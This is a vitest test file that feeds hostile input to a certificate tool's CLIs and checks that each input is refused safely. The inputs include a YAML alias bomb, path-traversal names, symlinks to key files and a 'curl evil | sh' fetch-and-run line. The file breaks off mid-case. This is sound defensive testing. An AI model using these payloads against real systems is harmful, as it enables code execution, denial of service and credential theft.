/**
 * The bad-input corpus: hostile and careless input, as an adversarial user
 * would try it, through the real CLIs. Every case asserts the reason on the
 * error line and its exit code; that the message names the file (and the field,
 * where there is one) and says what to do; no stack trace; no secret, not even part of an identity, in any
 * output; and a store byte-identical afterwards.
 *
 * Edited records (leaves.yaml, state.yaml, evidence, ledgers), deploy-target
 * fields, full disks and unwritable stdout are other suites' (records as
 * claims, deploy allow-list, crash harness).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { generateHybridIdentity, identityToRecipient } from 'age-encryption';
import { newIdentity, parseCertificate } from '@trellis/core';
import { FakeMesh } from './helpers/fake-mesh.js';
import {
  ROOT_BIN,
  baseEnv,
  expectRefused,
  tool,
  trellisCi,
  trellisRoot,
  type Env,
  type Reason,
  type Run,
} from './helpers/cli.js';
import { snapshotStore } from './helpers/store-hash.js';
import { at, DAY, RUN_NOW, fakedClockEnv, plus } from './helpers/clock.js';

const T0 = at(RUN_NOW);
const isoAt = (ms: number) => at(new Date(ms));

let pristine: FakeMesh;
/** Every identity the cases use, whose secret part must never appear in output. */
const secrets: string[] = [];
let pqRecipient: string;
let stranger: { identity: string; recipient: string };
let interNotAfter: number;
let rootNotAfter: number;

beforeAll(async () => {
  pristine = await FakeMesh.create({
    now: T0,
    scopes: { global: ['control'], 'us-east-1': ['api'], 'eu-west-1': ['api'] },
  });
  for (const f of [pristine.rootIdentityFile, pristine.ciIdentityFile])
    secrets.push(
      ...fs
        .readFileSync(f, 'utf8')
        .split('\n')
        .filter((l) => l.startsWith('AGE-SECRET-KEY-')),
    );
  pqRecipient = await identityToRecipient(await generateHybridIdentity());
  stranger = await newIdentity();
  secrets.push(stranger.identity);
  interNotAfter = parseCertificate(pristine.read('bundles/us-east-1/intermediate.pem')).notAfter.getTime();
  rootNotAfter = parseCertificate(pristine.read('bundles/root/root.pem')).notAfter.getTime();
}, 120_000);

/** One character of an identity changed: still almost the whole secret, so it must not be echoed. */
function oneCharWrong(id: string): string {
  const i = 30;
  return id.slice(0, i) + (id[i] === 'Q' ? 'P' : 'Q') + id.slice(i + 1);
}

interface Case {
  /** trellis-ci or trellis-root, run with the prepared mesh's identity. */
  cli: 'ci' | 'root';
  args: string[];
  /** Damage done to the copy of the store before the run (the snapshot is taken after it). */
  damage?: (m: FakeMesh, scratch: string) => void | Promise<void>;
  env?: (m: FakeMesh, scratch: string) => Env;
  /** Why it is refused: the error line names it, and the exit code is the table's for it. */
  reason: Reason;
  /** The file the message must name (a store-relative path, or any text that names it). */
  file: string;
  /** The field, when the input has one. */
  field?: string;
  /** Something the message must say, where the reason alone does not tell the case apart. */
  says?: RegExp;
  /** Run without the prepared --store (the case gives its own). */
  bare?: boolean;
}

const scope = (body: string) => `kind: region\nservices:\n${body}`;
const api = (fields: string) => scope(`  api:\n${fields}`);
const editConfig = (
  m: FakeMesh,
  from: string | RegExp,
  to: string | ((match: string, ...groups: string[]) => string),
) => {
  const text = m.read('trellis.yaml');
  const next = text.replace(from, to as never);
  if (next === text) throw new Error(`trellis.yaml has no ${from}`);
  m.write('trellis.yaml', next);
};
const onScope = (name: string, text: string) => (m: FakeMesh) => m.write(`scopes/${name}.yaml`, text);
const lol = [
  'a: &a [x, x, x, x, x, x, x, x, x, x]',
  ...'bcdefghij'.split('').map((c, i) => `${c}: &${c} [${Array(10).fill(`*${'abcdefghij'[i]}`).join(', ')}]`),
].join('\n');
const big = (n: number) =>
  scope(
    Array.from(
      { length: n },
      (_, i) => `  svc-${String(i).padStart(6, '0')}:\n    dns: [svc-${i}.alias.us-east-1.mesh.example]\n`,
    ).join(''),
  );
const renew = ['renew', '--now', T0, '--now-ahead'];
const renewForce = ['renew', '--force', '--now', T0, '--now-ahead'];
/**
 * One scope only: renew writes the leaves of the scopes before a failing one into .trellis/out, and this corpus hashes
 * that too.
 */
const renewUsEast = ['renew', '--force', '--scope', 'us-east-1', '--now', T0, '--now-ahead'];

const CASES: [string, Case][] = [
  // Hostile YAML in a scope file (a pull request can write any of these).
  [
    'a billion-laughs scope file is refused before any alias expands',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', `${lol}\n${scope('  api: {}\n')}`),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'a',
      says: /anchor/,
    },
  ],
  [
    'a single alias in a scope file is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  api: &x {}\n  web: *x\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api',
      says: /anchors and aliases/,
    },
  ],
  [
    'a !!js/function tag is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'kind: !!js/function "function () { return 1 }"\nservices: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'kind',
      says: /tag/,
    },
  ],
  [
    'a local tag on a service is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  api: !service {}\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api',
      says: /tag/,
    },
  ],
  [
    'a !!binary value is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api('    ttl: !!binary aGVsbG8=\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /tag/,
    },
  ],
  [
    'nesting 40 lists deep is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api(`    dns: ${'['.repeat(40)}${']'.repeat(40)}\n`)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /nested deeper than 32/,
    },
  ],
  [
    'nesting 50,000 deep is refused without exhausting the stack',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', `kind: region\nservices: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /not valid YAML/,
    },
  ],
  [
    'a scope file over the 4 MiB limit is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', big(70_000)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /over the limit of 4194304/,
    },
  ],
  [
    'a duplicate service is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  api: {}\n  web: {}\n  api:\n    ttl: 1d\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api',
      says: /duplicate key/,
    },
  ],
  [
    'a duplicate kind is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'kind: region\nkind: global\nservices: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'kind',
      says: /duplicate key/,
    },
  ],
  [
    'a scope file that is a list is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', '- kind: region\n- services: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /must be a mapping/,
    },
  ],
  [
    'a scope file that is one string is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'region\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /must be a mapping/,
    },
  ],
  [
    'an empty scope file is refused for its missing kind',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', ''),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'kind',
    },
  ],
  [
    'binary junk as a scope file is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        fs.writeFileSync(
          m.path('scopes/us-east-1.yaml'),
          Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0xff, 0xfe, 10]),
        ),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /not a text file/,
    },
  ],
  [
    'bytes that are not UTF-8 are refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        fs.writeFileSync(
          m.path('scopes/us-east-1.yaml'),
          Buffer.concat([
            Buffer.from('kind: region\nservices:\n  api'),
            Buffer.from([0xc3, 0x28]),
            Buffer.from(': {}\n'),
          ]),
        ),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /not UTF-8/,
    },
  ],
  [
    'services as a list is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'kind: region\nservices: [api]\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services',
      says: /must be a mapping/,
    },
  ],
  [
    'a service that is a string is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  api: yes\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api',
      says: /must be a mapping/,
    },
  ],
  [
    'a scope file ending in .yml is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => m.write('scopes/ap-south-1.yml', scope('  api: {}\n')),
      reason: 'bad-scope',
      file: 'scopes/ap-south-1.yml',
      says: /rename it/,
    },
  ],

  // Names.
  [
    'an upper-case scope file name is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('US-East-2', scope('  api: {}\n')),
      reason: 'bad-scope',
      file: 'scopes/US-East-2.yaml',
      says: /not a scope name/,
    },
  ],
  [
    'a scope name of 64 characters is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('a'.repeat(64), scope('  api: {}\n')),
      reason: 'bad-scope',
      file: `scopes/${'a'.repeat(64)}.yaml`,
      says: /not a scope name/,
    },
  ],
  [
    'a scope name with a dot is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us.east', scope('  api: {}\n')),
      reason: 'bad-scope',
      file: 'scopes/us.east.yaml',
      says: /not a scope name/,
    },
  ],
  [
    'an upper-case service name is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  API: {}\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.API',
      says: /not a service name/,
    },
  ],
  [
    'a service name with ../ is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope('  ../../etc: {}\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.../../etc',
      says: /not a service name/,
    },
  ],
  [
    'a service name of 64 characters is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope(`  ${'s'.repeat(64)}: {}\n`)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /not a service name/,
    },
  ],
  [
    'a service name whose DNS name passes 64 characters is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', scope(`  ${'s'.repeat(50)}: {}\n`)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      says: /longer than 64 characters/,
    },
  ],
  [
    'a region named global is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('global', 'kind: region\nservices: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/global.yaml',
      field: 'kind',
      says: /reserved for the global scope/,
    },
  ],
  [
    'a second global scope is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('world', 'kind: global\nservices: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/world.yaml',
      field: 'kind',
      says: /only scopes\/global.yaml may be kind: global/,
    },
  ],
  [
    'a region turned global is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'kind: global\nservices:\n  api: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'kind',
    },
  ],
  [
    'a kind that is neither is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', 'kind: planet\nservices: {}\n'),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'kind',
      says: /must be one of global, region/,
    },
  ],
  [
    '--scope with ../ is refused',
    {
      cli: 'ci',
      args: ['renew', '--scope', '../us-east-1', '--now', T0, '--now-ahead'],
      reason: 'unknown-scope',
      file: 'scopes/',
    },
  ],
  [
    'a ceremony for ../../etc is refused',
    {
      cli: 'root',
      args: ['intermediate', '../../etc', '--now', T0, '--now-ahead'],
      reason: 'unknown-scope',
      file: 'scopes/',
    },
  ],
  [
    'revoking ../global/control is refused',
    {
      cli: 'ci',
      args: ['revoke', '../global/control', '--now', T0, '--now-ahead'],
      reason: 'usage',
      file: '../global/control',
    },
  ],

  // SANs.
  [
    'a wildcard DNS SAN is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: ["*.api.us-east-1.mesh.example"]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /wildcard/,
    },
  ],
  [
    'an IPv4 address as a DNS SAN is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: [10.0.0.1]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /IP address/,
    },
  ],
  [
    'an IPv6 address as a DNS SAN is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: ["fd00::1"]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /IP address/,
    },
  ],
  [
    'an ip field is refused as an unknown key',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    ip: [10.0.0.1]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ip',
      says: /unknown key/,
    },
  ],
  [
    'a DNS SAN in another region is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: [api.eu-west-1.mesh.example]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /outside the scope's name constraints/,
    },
  ],
  [
    'a DNS SAN outside the trust domain is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: [login.bank.example]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /outside the scope's name constraints/,
    },
  ],
  [
    'a DNS SAN that is the parent domain is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: [mesh.example]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /outside/,
    },
  ],
  [
    'an upper-case DNS SAN is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: [API.us-east-1.mesh.example]\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /lower-case DNS name/,
    },
  ],
  [
    'a DNS SAN of 300 characters is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api(`    dns: [${'a.'.repeat(140)}us-east-1.mesh.example]\n`)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns[0]',
      says: /lower-case DNS name/,
    },
  ],
  [
    'dns as a string rather than a list is refused',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    dns: api.us-east-1.mesh.example\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns',
      says: /must be a list/,
    },
  ],

  // TTLs.
  [
    'a leaf ttl of zero is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api('    ttl: 0d\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /not a duration/,
    },
  ],
  [
    'a negative leaf ttl is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api('    ttl: -7d\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /not a duration/,
    },
  ],
  [
    'a leaf ttl of 300000y is refused, not overflowed into a malformed leaf',
    {
      cli: 'ci',
      args: renewForce,
      damage: onScope('us-east-1', api('    ttl: 300000y\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /longer than 100 years/,
    },
  ],
  [
    'a leaf ttl of 1e400d is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api('    ttl: 1e400d\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /not a duration/,
    },
  ],
  [
    'a leaf ttl of 400 nines is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api(`    ttl: ${'9'.repeat(400)}d\n`)),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /not a duration/,
    },
  ],
  [
    'a leaf ttl given as a number is refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope('us-east-1', api('    ttl: 86400\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /must be a duration/,
    },
  ],
  [
    'a leaf ttl past its ceiling is refused, not truncated',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: onScope('us-east-1', api('    ttl: 4y\n')),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.ttl',
      says: /longer than 398d/,
    },
  ],
  [
    'defaults.ttl.intermediate of 300000y is refused',
    {
      cli: 'root',
      args: ['intermediate', 'ap-south-1', '--now', T0],
      damage: (m) => {
        editConfig(m, 'intermediate: 3y', 'intermediate: 300000y');
        m.writeScope('ap-south-1', ['api']);
      },
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'defaults.ttl.intermediate',
      says: /longer than 100 years/,
    },
  ],
  [
    'defaults.ttl.intermediate past its ceiling is refused',
    {
      cli: 'root',
      args: ['intermediate', 'ap-south-1', '--now', T0],
      damage: (m) => {
        editConfig(m, 'intermediate: 3y', 'intermediate: 20y');
        m.writeScope('ap-south-1', ['api']);
      },
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'defaults.ttl.intermediate',
      says: /longer than 10y/,
    },
  ],
  [
    'defaults.ttl.intermediate past the root is refused, even confirmed',
    {
      cli: 'root',
      args: ['intermediate', 'ap-south-1', '--now', at(RUN_NOW, DAY), '--now-ahead'],
      damage: async (m) => {
        editConfig(m, 'intermediate: 3y', 'intermediate: 10y');
        await m.root(['confirm', '--now', T0]);
        m.writeScope('ap-south-1', ['api']);
      },
      reason: 'outlives-issuer',
      file: 'bundles/root/root.pem',
    },
  ],
  [
    'an unconfirmed change to defaults.crl.leaf is refused by renew',
    {
      cli: 'ci',
      args: renewForce,
      damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 30d'),
      reason: 'custody-policy-unconfirmed',
      file: 'trellis.yaml',
      field: 'defaults.crl.leaf',
      says: /3d → 30d/,
    },
  ],
  [
    'an unconfirmed change to defaults.ttl.intermediate is refused by the ceremony',
    {
      cli: 'root',
      args: ['intermediate', 'ap-south-1', '--now', T0],
      damage: (m) => {
        editConfig(m, 'intermediate: 3y', 'intermediate: 1y');
        m.writeScope('ap-south-1', ['api']);
      },
      reason: 'custody-policy-unconfirmed',
      file: 'trellis.yaml',
      field: 'defaults.ttl.intermediate',
      says: /3y → 1y/,
    },
  ],
  [
    'defaults.crl.leaf past its ceiling is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'leaf: 72h', 'leaf: 50y'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'defaults.crl.leaf',
      says: /longer than 30d/,
    },
  ],
  [
    'a trust domain with a 70-character label is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'trustDomain: mesh.example', `trustDomain: ${'a'.repeat(70)}.example`),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'trustDomain',
    },
  ],
  [
    '101 extra DNS names on one service are refused',
    {
      cli: 'ci',
      args: renew,
      damage: onScope(
        'us-east-1',
        api(`    dns:\n${Array.from({ length: 101 }, (_, i) => `      - n${i}.us-east-1.mesh.example\n`).join('')}`),
      ),
      reason: 'bad-scope',
      file: 'scopes/us-east-1.yaml',
      field: 'services.api.dns',
      says: /more than 100/,
    },
  ],
  [
    'defaults.ttl.leaf of 1e400d is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'leaf: 7d', 'leaf: 1e400d'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'defaults.ttl.leaf',
      says: /not a duration/,
    },
  ],
  [
    "a renewal window past the intermediate's remaining life is refused",
    {
      cli: 'ci',
      args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'LATE', '--now-ahead'],
      reason: 'outlives-issuer',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /would outlive its issuer.*rotate the intermediate/s,
    },
  ],

  // trellis.yaml.
  [
    'an offline recipient that is not age is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, /offline:\n {4}- age1\w+/, 'offline:\n    - ssh-ed25519 AAAAC3Nza'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'recipients.offline[0]',
    },
  ],
  [
    'a CI recipient with a wrong checksum is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        editConfig(m, /ci: (age1\w+)(\w)/, (_, head: string, last: string) => `ci: ${head}${last === 'q' ? 'p' : 'q'}`),
      reason: 'bad-recipient',
      file: 'trellis.yaml',
      field: 'recipients.ci',
    },
  ],
  [
    'a post-quantum offline recipient beside a classic one is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, /offline:\n/, `offline:\n    - ${pqRecipient}\n`),
      reason: 'custody-recipients',
      file: 'trellis.yaml',
      field: 'recipients.offline',
      says: /mixes post-quantum/,
    },
  ],
  [
    'the CI recipient listed as offline too is a custody refusal',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        editConfig(m, /offline:\n/, `offline:\n    - ${m.read('trellis.yaml').match(/ci: (age1\w+)/)![1]}\n`),
      reason: 'custody-recipients',
      file: 'trellis.yaml',
      field: 'recipients.ci',
      says: /CI could open the root key/,
    },
  ],
  [
    'an identity pasted as the CI recipient is refused and not echoed',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        editConfig(
          m,
          /ci: age1\w+/,
          `ci: ${fs.readFileSync(m.ciIdentityFile, 'utf8').match(/AGE-SECRET-KEY-\w+/)![0]}`,
        ),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'recipients.ci',
      says: /not shown/,
    },
  ],
  [
    'an unknown key in trellis.yaml is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'mesh: test', 'mesh: test\nreload: "curl evil | sh"'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'reload',
      says: /unknown key/,
    },
  ],
  [
    'version as a string is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'version: 1', 'version: "1"'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'version',
      says: /unsupported store version/,
    },
  ],
  [
    'recipients.offline as a string is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, /offline:\n {4}- (age1\w+)/, 'offline: $1'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'recipients.offline',
      says: /must be a list/,
    },
  ],
  [
    'defaults.ttl as a list is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, /ttl:\n(\s{4}\w+: \w+\n)+/, 'ttl: [7d]\n'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'defaults.ttl',
      says: /must be a mapping/,
    },
  ],
  [
    'an upper-case trust domain is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'trustDomain: mesh.example', 'trustDomain: Mesh.Example'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'trustDomain',
    },
  ],
  [
    'an alias in trellis.yaml is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => editConfig(m, 'mesh: test', 'mesh: &m test\nx: *m'),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'mesh',
      says: /anchor/,
    },
  ],
  [
    'a duplicate recipients block in trellis.yaml is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) =>
        m.write(
          'trellis.yaml',
          `${m.read('trellis.yaml')}recipients:\n  offline: [${stranger.recipient}]\n  ci: ${stranger.recipient}\n`,
        ),
      reason: 'bad-config',
      file: 'trellis.yaml',
      field: 'recipients',
      says: /duplicate key/,
    },
  ],
  [
    'trellis.yaml over the size limit is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => m.write('trellis.yaml', `${m.read('trellis.yaml')}${'#'.repeat(5 * 1024 * 1024)}\n`),
      reason: 'bad-config',
      file: 'trellis.yaml',
      says: /over the limit/,
    },
  ],
  [
    'trellis.yaml swapped for a symlink to the CI identity is refused unread (a damaged store file), not echoed',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => {
        fs.rmSync(m.path('trellis.yaml'));
        fs.symlinkSync(m.ciIdentityFile, m.path('trellis.yaml'));
      },
      reason: 'corrupt-store',
      file: 'trellis.yaml',
      says: /symbolic link/,
    },
  ],
  [
    'trellis.yaml swapped for a symlink to a private key is refused unread, not echoed',
    {
      cli: 'ci',
      args: renew,
      damage: (m, s) => {
        fs.rmSync(m.path('trellis.yaml'));
        fs.symlinkSync(
          writeScratch(
            s,
            'key.pem',
            '-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg: [\n-----END ' +
              'PRIVATE KEY-----\n',
          ),
          m.path('trellis.yaml'),
        );
      },
      reason: 'corrupt-store',
      file: 'trellis.yaml',
      says: /symbolic link/,
    },
  ],
  [
    'trellis.yaml as binary junk is refused',
    {
      cli: 'ci',
      args: renew,
      damage: (m) => fs.writeFileSync(m.path('trellis.yaml'), Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3])),
      reason: 'bad-config',
      file: 'trellis.yaml',
      says: /not a text file/,
    },
  ],

  // --now.
  [
    '--now yesterday is refused',
    { cli: 'ci', args: ['renew', '--now', 'yesterday'], reason: 'bad-time', file: '--now' },
  ],
  [
    '--now 2026-02-30 is refused, not rolled into March',
    {
      cli: 'ci',
      args: ['renew', '--now', '2026-02-30T00:00:00Z'],
      reason: 'bad-time',
      file: '--now',
      says: /day that does not exist/,
    },
  ],
  [
    '--now without a time zone is refused',
    {
      cli: 'root',
      args: ['crl', '--now', T0.replace(/Z$/, ''), '--now-ahead'],
      reason: 'bad-time',
      file: '--now',
    },
  ],
  [
    '--now before 1970 is refused',
    {
      cli: 'ci',
      args: ['renew', '--now', '1969-07-20T20:17:00Z'],
      reason: 'bad-time',
      file: '--now',
      says: /before 1970/,
    },
  ],
  [
    '--now in the year 10000 is refused',
    {
      cli: 'root',
      args: ['crl', '--now', '10000-01-01T00:00:00Z'],
      reason: 'bad-time',
      file: '--now',
    },
  ],
  [
    '--now before the intermediate exists mints no leaf',
    {
      cli: 'ci',
      args: ['renew', '--force', '--now', at(T0, -21 * DAY)],
      reason: 'bad-time',
      file: 'bundles/',
      says: /before .* became valid/,
    },
  ],
  [
    '--now after the intermediate expired mints no leaf',
    {
      cli: 'ci',
      args: ['renew', '--force', '--scope', 'us-east-1', '--now', 'EXPIRED', '--now-ahead'],
      reason: 'issuer-expiring',
      file: 'bundles/us-east-1/intermediate.pem',
    },
  ],
  [
    'revoke with --now before the intermediate exists signs nothing',
    {
      cli: 'ci',
      args: ['revoke', 'us-east-1/api', '--now', at(T0, -21 * DAY)],
      reason: 'bad-time',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /before .* became valid/,
    },
  ],
  [
    'a root CRL with --now behind the root ledger is refused',
    {
      cli: 'root',
      args: ['crl', '--now', at(T0, -DAY)],
      reason: 'custody-clock-behind',
      file: 'bundles/root/ledger.jsonl',
    },
  ],
  [
    'a root CRL with --now after the root expired is refused',
    {
      cli: 'root',
      args: ['crl', '--now', 'ROOT_EXPIRED', '--now-ahead'],
      reason: 'issuer-expiring',
      file: 'bundles/root/root.pem',
    },
  ],

  // Files.
  [
    'an intermediate.pem swapped between scopes does not sign',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) => m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/eu-west-1/intermediate.pem')),
      reason: 'verification-failed',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /restore it from git/,
    },
  ],
  [
    'a truncated intermediate.key.age is called damaged',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) =>
        m.write(
          'bundles/us-east-1/intermediate.key.age',
          m.read('bundles/us-east-1/intermediate.key.age').slice(0, 200),
        ),
      reason: 'corrupt-store',
      file: 'bundles/us-east-1/intermediate.key.age',
      says: /not a readable age file/,
    },
  ],
  [
    'an empty intermediate.key.age is called damaged',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) => m.write('bundles/us-east-1/intermediate.key.age', ''),
      reason: 'corrupt-store',
      file: 'bundles/us-east-1/intermediate.key.age',
    },
  ],
  [
    'a truncated intermediate.pem is refused',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) =>
        m.write('bundles/us-east-1/intermediate.pem', m.read('bundles/us-east-1/intermediate.pem').slice(0, 300)),
      reason: 'corrupt-store',
      file: 'bundles/us-east-1/intermediate.pem',
      says: /restore it from git/,
    },
  ],
  [
    'an intermediate.pem with trailing data is refused',
    {
      cli: 'ci',
      args: renewUsEast,
      damage: (m) =>
        m.write(
